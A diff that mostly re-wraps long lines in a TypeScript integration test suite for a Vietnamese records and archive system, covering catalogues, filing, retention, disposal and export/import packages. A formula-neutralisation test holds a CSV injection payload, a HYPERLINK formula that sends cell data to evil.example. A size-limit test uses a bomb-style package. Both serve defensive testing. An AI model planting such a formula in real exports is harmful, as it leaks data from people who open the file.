@@ -55,7 +55,15 @@ interface CaseFile {
   imported: boolean;
   transfer: { dueDate: string; state: string } | null;
   disposalReviewDate: string | null;
-  documents: { entryId: string; ordinal: number; kind: string; documentId: string | null; visible: boolean; subject: string | null; numberAndSymbol: string | null }[];
+  documents: {
+    entryId: string;
+    ordinal: number;
+    kind: string;
+    documentId: string | null;
+    visible: boolean;
+    subject: string | null;
+    numberAndSymbol: string | null;
+  }[];
   disposal: { approvals: { capacity: string; user: { id: string } }[] };
   allowedActions: string[];
 }
@@ -74,7 +82,10 @@ async function incoming(subject = 'V/v báo cáo công tác văn thư, lưu tr�
   const clerk = await as('snv.vanthu');
   if (!clerk.xsrf) await clerk.get('/api/me');
   const pdf = await textPdf([subject, 'Trang 2']);
-  const draft = ok<{ id: string }>(await clerk.agent.post('/api/incoming').set('X-XSRF-TOKEN', clerk.xsrf!).attach('main', pdf, `công văn ${++seq}.pdf`), 201);
+  const draft = ok<{ id: string }>(
+    await clerk.agent.post('/api/incoming').set('X-XSRF-TOKEN', clerk.xsrf!).attach('main', pdf, `công văn ${++seq}.pdf`),
+    201,
+  );
   ok(
     await clerk.post(`/api/incoming/${draft.id}/register`, {
       registerId: 'qn-snv-den',
@@ -98,7 +109,11 @@ async function issuedOutgoing(subject = 'Kế hoạch công tác văn thư, lưu
   if (!author.xsrf) await author.get('/api/me');
   const meta = { documentType: 'KH', subject, recipients: [{ kind: 'ORGANISATION', organisationId: 'qn-stc' }] };
   const doc = ok<{ id: string }>(
-    await author.agent.post('/api/outgoing').set('X-XSRF-TOKEN', author.xsrf!).field('metadata', JSON.stringify(meta)).attach('main', await textPdf([subject]), 'Kế hoạch.pdf'),
+    await author.agent
+      .post('/api/outgoing')
+      .set('X-XSRF-TOKEN', author.xsrf!)
+      .field('metadata', JSON.stringify(meta))
+      .attach('main', await textPdf([subject]), 'Kế hoạch.pdf'),
     201,
   );
   ok(await post('snv.cv.tcbc', `/api/outgoing/${doc.id}/submit`));
@@ -127,7 +142,9 @@ async function findSeeded(notation: string) {
 
 describe('catalogue (danh mục hồ sơ)', () => {
   it('seeds the Sở Nội vụ 2025 catalogue of docs/domain.md §9.3 with FileCode parts, and hides it from other organisations', async () => {
-    const cat = ok<{ items: CaseFile[]; headings: { code: string }[]; totals: { permanent: number; limited: number } }>(await get('snv.cv.tcbc', '/api/case-files/catalogue?year=2025'));
+    const cat = ok<{ items: CaseFile[]; headings: { code: string }[]; totals: { permanent: number; limited: number } }>(
+      await get('snv.cv.tcbc', '/api/case-files/catalogue?year=2025'),
+    );
     expect(cat.items.map((c) => [c.code, c.maintenance, c.status])).toEqual([
       ['000.00.03.H49.2025.01.TCBC', 'Vĩnh viễn', 'OPEN'],
       ['000.00.03.H49.2025.01.VTLT', 'Vĩnh viễn', 'OPEN'],
@@ -139,7 +156,13 @@ describe('catalogue (danh mục hồ sơ)', () => {
     expect(printed.status).toBe(200);
     const sheet = (await JSZip.loadAsync(printed.body as Buffer)).file('xl/sharedStrings.xml');
     const strings = (await sheet!.async('string')).normalize('NFC');
-    for (const s of ['DANH MỤC HỒ SƠ NĂM 2025', 'I. VĂN THƯ, LƯU TRỮ', '01.VTLT', 'Tổng số: 3 hồ sơ, trong đó vĩnh viễn: 2, có thời hạn: 1']) expect(strings).toContain(s);
+    for (const s of [
+      'DANH MỤC HỒ SƠ NĂM 2025',
+      'I. VĂN THƯ, LƯU TRỮ',
+      '01.VTLT',
+      'Tổng số: 3 hồ sơ, trong đó vĩnh viễn: 2, có thời hạn: 1',
+    ])
+      expect(strings).toContain(s);
     const seeded = cat.items[0];
     expect((await get('stc.gd', `/api/case-files/${seeded.id}`)).status).toBe(404);
     expect(ok<{ items: CaseFile[] }>(await get('stc.gd', '/api/case-files')).items).toEqual([]);
@@ -149,15 +172,38 @@ describe('catalogue (danh mục hồ sơ)', () => {
     const dup = await post('snv.cv.tcbc', '/api/case-files', { year: 2025, notation: '01.TCBC', title: 'Trùng', retentionYears: null });
     expect(dup.status).toBe(409);
     expect(dup.body.code).toBe('case_file.code_taken');
-    expect((await post('snv.cv.tcbc', '/api/case-files', { year: 2025, notation: '09.VTLT', title: 'Không phải đơn vị mình', retentionYears: 5, unitId: 'snv-vtlt' })).status).toBe(403);
+    expect(
+      (
+        await post('snv.cv.tcbc', '/api/case-files', {
+          year: 2025,
+          notation: '09.VTLT',
+          title: 'Không phải đơn vị mình',
+          retentionYears: 5,
+          unitId: 'snv-vtlt',
+        })
+      ).status,
+    ).toBe(403);
     const bad = await post('snv.cv.tcbc', '/api/case-files', { year: 2025, notation: 'có dấu cách', title: 'x', retentionYears: 0 });
     expect(bad.status).toBe(422);
     // Headings (đề mục) of a year's catalogue: leaders and archivists add them; files name one of their year.
-    expect((await post('snv.cv.tcbc', '/api/case-files/headings', { year: 2026, code: 'TCBC', title: 'Tổ chức, biên chế' })).status).toBe(403);
-    const heading = ok<{ id: string; ordinal: number }>(await post('snv.luutru', '/api/case-files/headings', { year: 2026, code: 'TCBC', title: 'Tổ chức, biên chế' }), 201);
+    expect((await post('snv.cv.tcbc', '/api/case-files/headings', { year: 2026, code: 'TCBC', title: 'Tổ chức, biên chế' })).status).toBe(
+      403,
+    );
+    const heading = ok<{ id: string; ordinal: number }>(
+      await post('snv.luutru', '/api/case-files/headings', { year: 2026, code: 'TCBC', title: 'Tổ chức, biên chế' }),
+      201,
+    );
     expect(heading.ordinal).toBe(1);
-    expect((await post('snv.gd', '/api/case-files/headings', { year: 2026, code: 'TCBC', title: 'Lần nữa' })).body.code).toBe('case_file.heading_taken');
-    const wrongYear = await post('snv.cv.tcbc', '/api/case-files', { year: 2025, notation: '40.TCBC', title: 'Sai năm', retentionYears: 5, headingId: heading.id });
+    expect((await post('snv.gd', '/api/case-files/headings', { year: 2026, code: 'TCBC', title: 'Lần nữa' })).body.code).toBe(
+      'case_file.heading_taken',
+    );
+    const wrongYear = await post('snv.cv.tcbc', '/api/case-files', {
+      year: 2025,
+      notation: '40.TCBC',
+      title: 'Sai năm',
+      retentionYears: 5,
+      headingId: heading.id,
+    });
     expect(wrongYear.status).toBe(422);
     expect(wrongYear.body.errors).toEqual([{ path: 'headingId', message: 'unknown heading' }]);
     const next = await create('snv.cv.tcbc', { year: 2026, notation: '01.TCBC', title: 'Hồ sơ năm sau', headingId: heading.id });
@@ -172,7 +218,13 @@ describe('filing (lập hồ sơ)', () => {
     expect((await get('snv.luutru', `/api/incoming/${id}`)).status).toBe(200);
     expect((await get('snv.cv.tcbc', `/api/incoming/${id}`)).status).toBe(404);
     const clerk = await as('snv.vanthu');
-    const draft = ok<{ id: string }>(await clerk.agent.post('/api/incoming').set('X-XSRF-TOKEN', clerk.xsrf!).attach('main', await textPdf(['Chưa vào sổ']), 'nháp.pdf'), 201);
+    const draft = ok<{ id: string }>(
+      await clerk.agent
+        .post('/api/incoming')
+        .set('X-XSRF-TOKEN', clerk.xsrf!)
+        .attach('main', await textPdf(['Chưa vào sổ']), 'nháp.pdf'),
+      201,
+    );
     expect((await get('snv.luutru', `/api/incoming/${draft.id}`)).status).toBe(404);
     const list = ok<{ items: { id: string }[] }>(await get('snv.luutru', '/api/incoming?limit=100'));
     expect(list.items.map((d) => d.id)).toContain(id);
@@ -207,21 +259,25 @@ describe('filing (lập hồ sơ)', () => {
     expect(cf.docTotal).toBe(2);
     expect(cf.pageTotal).toBe(3);
     // The list counts in SQL what the page counts from the metadata.
-    expect((await findSeeded('01.TCBC'))).toMatchObject({ docTotal: 2, pageTotal: 3 });
+    expect(await findSeeded('01.TCBC')).toMatchObject({ docTotal: 2, pageTotal: 3 });
     expect(await caseFileIdsOfDocument(t.database.db, 'INCOMING', inc)).toEqual([tcbc.id]);
 
     const twice = await post('snv.luutru', `/api/case-files/${vtlt2.id}/documents`, { kind: 'INCOMING', documentId: inc });
     expect(twice.status).toBe(409);
     expect(twice.body.code).toBe('case_file.already_filed');
     const draftDoc = ok<{ id: string }>(
-      await (await as('snv.cv.tcbc')).agent
+      await (
+        await as('snv.cv.tcbc')
+      ).agent
         .post('/api/outgoing')
         .set('X-XSRF-TOKEN', (await as('snv.cv.tcbc')).xsrf!)
         .field('metadata', JSON.stringify({ documentType: 'CV', subject: 'Dự thảo' }))
         .attach('main', await textPdf(['Dự thảo']), 'dt.pdf'),
       201,
     );
-    expect((await post('snv.cv.tcbc', `/api/case-files/${tcbc.id}/documents`, { kind: 'OUTGOING', documentId: draftDoc.id })).body.code).toBe('case_file.document_not_final');
+    expect(
+      (await post('snv.cv.tcbc', `/api/case-files/${tcbc.id}/documents`, { kind: 'OUTGOING', documentId: draftDoc.id })).body.code,
+    ).toBe('case_file.document_not_final');
     // Archivists read outgoing documents once issued, not drafts.
     expect((await get('snv.luutru', `/api/outgoing/${draftDoc.id}`)).status).toBe(404);
 
@@ -243,12 +299,19 @@ describe('filing (lập hồ sơ)', () => {
     const moved = ok(await get('snv.luutru', `/api/case-files/${vtlt2.id}`));
     expect(moved.documents.map((d) => [d.ordinal, d.documentId])).toEqual([[1, third]]);
 
-    const targets = ok<{ filedIn: string[]; items: { id: string }[] }>(await get('snv.cv.tcbc', `/api/case-files/targets?kind=OUTGOING&documentId=${out}`));
+    const targets = ok<{ filedIn: string[]; items: { id: string }[] }>(
+      await get('snv.cv.tcbc', `/api/case-files/targets?kind=OUTGOING&documentId=${out}`),
+    );
     expect(targets.filedIn).toEqual([tcbc.id]);
     expect(targets.items.map((i) => i.id)).toContain(tcbc.id);
     expect(targets.items.map((i) => i.id)).not.toContain(vtlt2.id);
-    const audit = await t.database.db.select().from(auditEvents).where(and(eq(auditEvents.entityType, 'case_file'), eq(auditEvents.entityId, tcbc.id)));
-    expect(audit.map((a) => a.action)).toEqual(expect.arrayContaining(['case_file.file', 'case_file.unfile', 'case_file.reorder', 'case_file.move_out']));
+    const audit = await t.database.db
+      .select()
+      .from(auditEvents)
+      .where(and(eq(auditEvents.entityType, 'case_file'), eq(auditEvents.entityId, tcbc.id)));
+    expect(audit.map((a) => a.action)).toEqual(
+      expect.arrayContaining(['case_file.file', 'case_file.unfile', 'case_file.reorder', 'case_file.move_out']),
+    );
   });
 });
 
@@ -258,14 +321,33 @@ describe('closing, transfer and retention', () => {
     const empty = await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`);
     expect(empty.status).toBe(409);
     expect(empty.body.code).toBe('case_file.empty');
-    ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('V/v tuyển dụng') }), 201);
+    ok(
+      await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('V/v tuyển dụng') }),
+      201,
+    );
     expect((await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`, { endDate: '2020-01-01' })).status).toBe(422);
-    const closed = ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`, { endDate: '2020-02-29', retentionYears: 20, title: 'Hồ sơ tuyển dụng công chức năm 2020' }));
+    const closed = ok(
+      await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`, {
+        endDate: '2020-02-29',
+        retentionYears: 20,
+        title: 'Hồ sơ tuyển dụng công chức năm 2020',
+      }),
+    );
     // 29 February plus whole years lands on 28 February in a common year.
-    expect(closed).toMatchObject({ status: 'CLOSED', endDate: '2020-02-29', retentionYears: 20, maintenance: '20 năm', disposalReviewDate: '2040-02-29', transfer: { dueDate: '2021-02-28', state: 'OVERDUE' } });
+    expect(closed).toMatchObject({
+      status: 'CLOSED',
+      endDate: '2020-02-29',
+      retentionYears: 20,
+      maintenance: '20 năm',
+      disposalReviewDate: '2040-02-29',
+      transfer: { dueDate: '2021-02-28', state: 'OVERDUE' },
+    });
     expect(closed.allowedActions).toEqual(expect.arrayContaining(['transfer']));
     expect(closed.allowedActions).not.toContain('reopen');
-    const late = await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('Đến muộn') });
+    const late = await post('snv.luutru', `/api/case-files/${cf.id}/documents`, {
+      kind: 'INCOMING',
+      documentId: await incoming('Đến muộn'),
+    });
     expect(late.status).toBe(409);
     expect(late.body.code).toBe('case_file.not_open');
     expect((await post('snv.cv.tcbc', `/api/case-files/${cf.id}/reopen`)).status).toBe(403);
@@ -275,7 +357,10 @@ describe('closing, transfer and retention', () => {
 
   it('transfers closed files kept ≥ 5 years, reminds 30 days before the due date once, and leaves them read-only to the unit', async () => {
     const short = await create('snv.cv.tcbc', { notation: '11.TCBC', title: 'Hồ sơ ngắn hạn', retentionYears: 2, startDate: '2025-01-02' });
-    ok(await post('snv.luutru', `/api/case-files/${short.id}/documents`, { kind: 'INCOMING', documentId: await incoming('Ngắn hạn') }), 201);
+    ok(
+      await post('snv.luutru', `/api/case-files/${short.id}/documents`, { kind: 'INCOMING', documentId: await incoming('Ngắn hạn') }),
+      201,
+    );
     ok(await post('snv.cv.tcbc', `/api/case-files/${short.id}/close`, { endDate: '2025-03-01' }));
     const refused = await post('snv.cv.tcbc', `/api/case-files/${short.id}/transfer`);
     expect(refused.status).toBe(409);
@@ -292,7 +377,9 @@ describe('closing, transfer and retention', () => {
     try {
       const notifier = new Notifier(t.database.db, redis, t.config.QUEUE_PREFIX);
       const forFile = async () =>
-        (await t.database.db.select().from(notifications).where(eq(notifications.kind, 'case_file.transfer_due'))).filter((n) => (n.data as { caseFileId: string }).caseFileId === cf.id);
+        (await t.database.db.select().from(notifications).where(eq(notifications.kind, 'case_file.transfer_due'))).filter(
+          (n) => (n.data as { caseFileId: string }).caseFileId === cf.id,
+        );
       await sendTransferReminders(t.database.db, notifier, '2026-11-19');
       expect(await forFile()).toEqual([]);
       await sendTransferReminders(t.database.db, notifier, '2026-11-20');
@@ -305,7 +392,10 @@ describe('closing, transfer and retention', () => {
 
     const transferred = ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/transfer`));
     expect(transferred).toMatchObject({ status: 'TRANSFERRED', transfer: null });
-    const told = await t.database.db.select().from(notifications).where(and(eq(notifications.kind, 'case_file.transferred'), eq(notifications.userId, ids.get('snv.luutru')!)));
+    const told = await t.database.db
+      .select()
+      .from(notifications)
+      .where(and(eq(notifications.kind, 'case_file.transferred'), eq(notifications.userId, ids.get('snv.luutru')!)));
     expect(told.map((n) => n.link)).toContain(`/case-files/${cf.id}`);
 
     for (const res of [
@@ -329,7 +419,13 @@ describe('closing, transfer and retention', () => {
 describe('disposition (hủy hồ sơ hết thời hạn bảo quản)', () => {
   async function transferredFile(notation: string, retentionYears: number | null, startDate: string, endDate: string) {
     const cf = await create('snv.cv.tcbc', { notation, title: `Hồ sơ ${notation}`, retentionYears, startDate });
-    ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming(`Văn bản của ${notation}`) }), 201);
+    ok(
+      await post('snv.luutru', `/api/case-files/${cf.id}/documents`, {
+        kind: 'INCOMING',
+        documentId: await incoming(`Văn bản của ${notation}`),
+      }),
+      201,
+    );
     ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`, { endDate }));
     return ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/transfer`));
   }
@@ -353,9 +449,15 @@ describe('disposition (hủy hồ sơ hết thời hạn bảo quản)', () => {
     const perm = await post('snv.luutru', `/api/case-files/${permanent.id}/disposal/approve`, { reason: 'Thử' });
     expect(perm.status).toBe(409);
     expect(perm.body.code).toBe('case_file.permanent');
-    expect((await post('snv.luutru', `/api/case-files/${recent.id}/disposal/approve`, { reason: 'Sớm' })).body.code).toBe('case_file.not_expired');
+    expect((await post('snv.luutru', `/api/case-files/${recent.id}/disposal/approve`, { reason: 'Sớm' })).body.code).toBe(
+      'case_file.not_expired',
+    );
 
-    const first = ok(await post('snv.luutru', `/api/case-files/${old.id}/disposal/approve`, { reason: 'Hết thời hạn bảo quản, hội đồng xác định hết giá trị' }));
+    const first = ok(
+      await post('snv.luutru', `/api/case-files/${old.id}/disposal/approve`, {
+        reason: 'Hết thời hạn bảo quản, hội đồng xác định hết giá trị',
+      }),
+    );
     expect(first.status).toBe('TRANSFERRED');
     expect(first.disposal.approvals.map((a) => a.capacity)).toEqual(['ARCHIVIST']);
     const again = await post('snv.luutru', `/api/case-files/${old.id}/disposal/approve`, { reason: 'Lần nữa' });
@@ -369,8 +471,20 @@ describe('disposition (hủy hồ sơ hết thời hạn bảo quản)', () => {
     ]);
     expect((await get('snv.luutru', `/api/case-files/${old.id}/export`)).status).toBe(409);
     expect((await patch('snv.luutru', `/api/case-files/${old.id}`, { description: 'Sau khi hủy' })).body.code).toBe('case_file.disposed');
-    const audit = await t.database.db.select().from(auditEvents).where(and(eq(auditEvents.entityType, 'case_file'), eq(auditEvents.entityId, old.id))).orderBy(asc(auditEvents.id));
-    expect(audit.map((a) => a.action)).toEqual(['case_file.create', 'case_file.file', 'case_file.close', 'case_file.transfer', 'case_file.disposal_approve', 'case_file.disposal_approve', 'case_file.dispose']);
+    const audit = await t.database.db
+      .select()
+      .from(auditEvents)
+      .where(and(eq(auditEvents.entityType, 'case_file'), eq(auditEvents.entityId, old.id)))
+      .orderBy(asc(auditEvents.id));
+    expect(audit.map((a) => a.action)).toEqual([
+      'case_file.create',
+      'case_file.file',
+      'case_file.close',
+      'case_file.transfer',
+      'case_file.disposal_approve',
+      'case_file.disposal_approve',
+      'case_file.dispose',
+    ]);
     expect((await verifyAuditChain(t.database.db)).ok).toBe(true);
 
     // The leader may approve first too: then the archivist's completes it.
@@ -452,7 +566,13 @@ describe('export and import packages', () => {
   }
 
   it('exports files, metadata.xml/csv and SHA-256 manifest; importing it elsewhere and exporting again gives the same metadata and checksums', async () => {
-    const cf = await create('snv.cv.tcbc', { notation: '30.TCBC', title: 'Hồ sơ đề án vị trí việc làm — xuất gói', retentionYears: null, startDate: '2025-01-02', description: 'Có "ngoặc kép", dấu phẩy' });
+    const cf = await create('snv.cv.tcbc', {
+      notation: '30.TCBC',
+      title: 'Hồ sơ đề án vị trí việc làm — xuất gói',
+      retentionYears: null,
+      startDate: '2025-01-02',
+      description: 'Có "ngoặc kép", dấu phẩy',
+    });
     const inc = await incoming('V/v đề án vị trí việc làm, đợt 1');
     const out = await issuedOutgoing('Quyết định phê duyệt đề án vị trí việc làm');
     ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: inc }), 201);
@@ -494,18 +614,30 @@ describe('export and import packages', () => {
     // Somebody else's archive takes it in; exporting from there gives the same metadata and checksums.
     expect((await upload('stc.gd', pkg)).status).toBe(403);
     const imported = ok((await upload('stc.vanthu', pkg)) as { status: number; body: unknown }, 201);
-    expect(imported).toMatchObject({ status: 'TRANSFERRED', imported: true, code: '000.00.03.H49.2025.30.TCBC', docTotal: 2, maintenance: 'Vĩnh viễn' });
+    expect(imported).toMatchObject({
+      status: 'TRANSFERRED',
+      imported: true,
+      code: '000.00.03.H49.2025.30.TCBC',
+      docTotal: 2,
+      maintenance: 'Vĩnh viễn',
+    });
     expect(imported.documents.map((d) => [d.ordinal, d.kind, d.documentId])).toEqual([
       [1, 'INCOMING', null],
       [2, 'OUTGOING', null],
     ]);
     expect(imported.documents[1].subject).toBe('Quyết định phê duyệt đề án vị trí việc làm');
     const [issuedPath] = Object.keys(files).filter((n) => n.startsWith('files/002/'));
-    const download = await binary((await as('stc.vanthu')).agent.get(`/api/case-files/${imported.id}/documents/${imported.documents[1].entryId}/files/0`));
+    const download = await binary(
+      (await as('stc.vanthu')).agent.get(`/api/case-files/${imported.id}/documents/${imported.documents[1].entryId}/files/0`),
+    );
     expect(download.status).toBe(200);
     expect(Buffer.compare(download.body as Buffer, files[issuedPath])).toBe(0);
-    expect((await get('stc.cv.qlns', `/api/case-files/${imported.id}/documents/${imported.documents[1].entryId}/files/0`)).status).toBe(403);
-    const again = await contents((await binary((await as('stc.vanthu')).agent.get(`/api/case-files/${imported.id}/export`))).body as Buffer);
+    expect((await get('stc.cv.qlns', `/api/case-files/${imported.id}/documents/${imported.documents[1].entryId}/files/0`)).status).toBe(
+      403,
+    );
+    const again = await contents(
+      (await binary((await as('stc.vanthu')).agent.get(`/api/case-files/${imported.id}/export`))).body as Buffer,
+    );
     expect(again['metadata.xml'].toString()).toBe(xml);
     expect(again['metadata.csv'].toString()).toBe(csv);
     expect(again['manifest-sha256.txt'].toString()).toBe(manifest);
@@ -514,14 +646,27 @@ describe('export and import packages', () => {
     expect(twice.body.code).toBe('case_file.code_taken');
   });
 
-  it('neutralises spreadsheet formulas in metadata.csv (a leading \' before = + - @ tab CR) and keeps metadata.xml as typed', async () => {
+  it("neutralises spreadsheet formulas in metadata.csv (a leading ' before = + - @ tab CR) and keeps metadata.xml as typed", async () => {
     const description = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")';
-    const cf = await create('snv.cv.tcbc', { notation: '32.TCBC', title: '@SUM(1+1) hồ sơ công thức', retentionYears: 10, startDate: '2025-01-02', description });
-    ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('+1 cộng với -1') }), 201);
+    const cf = await create('snv.cv.tcbc', {
+      notation: '32.TCBC',
+      title: '@SUM(1+1) hồ sơ công thức',
+      retentionYears: 10,
+      startDate: '2025-01-02',
+      description,
+    });
+    ok(
+      await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('+1 cộng với -1') }),
+      201,
+    );
     const files = await contents((await binary((await as('snv.luutru')).agent.get(`/api/case-files/${cf.id}/export`))).body as Buffer);
     const csv = files['metadata.csv'].toString();
     // Every cell, quoted or not: none may start with a formula character.
-    const cells = csv.replace(/^\ufeff/, '').split('\r\n').filter(Boolean).flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"')));
+    const cells = csv
+      .replace(/^\ufeff/, '')
+      .split('\r\n')
+      .filter(Boolean)
+      .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"')));
     expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
     expect(cells).toEqual(expect.arrayContaining([`'${description}`, "'@SUM(1+1) hồ sơ công thức", "'+1 cộng với -1"]));
     const xml = files['metadata.xml'].toString();
@@ -544,7 +689,11 @@ describe('export and import packages', () => {
     const res = await upload('stc.vanthu', pkg);
     const grown = process.memoryUsage().rss - rss;
     expect(res.status).toBe(413);
-    expect(res.body).toMatchObject({ code: 'case_file.package_too_large', title: expect.stringContaining('MB'), detail: expect.stringContaining('01_bomb.pdf') });
+    expect(res.body).toMatchObject({
+      code: 'case_file.package_too_large',
+      title: expect.stringContaining('MB'),
+      detail: expect.stringContaining('01_bomb.pdf'),
+    });
     expect(grown).toBeLessThan(100 * 1024 * 1024);
     expect(Date.now() - started).toBeLessThan(5000);
 
@@ -564,7 +713,10 @@ describe('export and import packages', () => {
 
   it('refuses a corrupted package, naming the file whose checksum fails, and stores nothing', async () => {
     const cf = await create('snv.cv.tcbc', { notation: '31.TCBC', title: 'Hồ sơ hỏng', retentionYears: 10, startDate: '2025-01-02' });
-    ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('Văn bản sẽ bị sửa') }), 201);
+    ok(
+      await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('Văn bản sẽ bị sửa') }),
+      201,
+    );
     // Exported by the archivist, who may open the document (the unit's specialist may not: no package for him).
     expect((await (await as('snv.cv.tcbc')).get(`/api/case-files/${cf.id}/export`)).body.code).toBe('case_file.export_restricted');
     const pkg = (await binary((await as('snv.luutru')).agent.get(`/api/case-files/${cf.id}/export`))).body as Buffer;
@@ -586,9 +738,15 @@ describe('export and import packages', () => {
     expect((await upload('stc.vanthu', Buffer.from('not a zip'))).body.code).toBe('case_file.package_invalid');
     // A consistent package (checksums recomputed) whose metadata is wrong: ordinals with a gap.
     const renumbered = await JSZip.loadAsync(pkg);
-    const xml = (await renumbered.file('metadata.xml')!.async('string')).replace('<DocOrdinal>1</DocOrdinal>', '<DocOrdinal>3</DocOrdinal>');
+    const xml = (await renumbered.file('metadata.xml')!.async('string')).replace(
+      '<DocOrdinal>1</DocOrdinal>',
+      '<DocOrdinal>3</DocOrdinal>',
+    );
     renumbered.file('metadata.xml', xml);
-    const manifest = (await renumbered.file('manifest-sha256.txt')!.async('string')).replace(/^[0-9a-f]{64}(?=  metadata\.xml$)/m, crypto.createHash('sha256').update(xml).digest('hex'));
+    const manifest = (await renumbered.file('manifest-sha256.txt')!.async('string')).replace(
+      /^[0-9a-f]{64}(?=  metadata\.xml$)/m,
+      crypto.createHash('sha256').update(xml).digest('hex'),
+    );
     renumbered.file('manifest-sha256.txt', manifest);
     const gap = await upload('stc.vanthu', await renumbered.generateAsync({ type: 'nodebuffer' }));
     expect(gap.status).toBe(422);
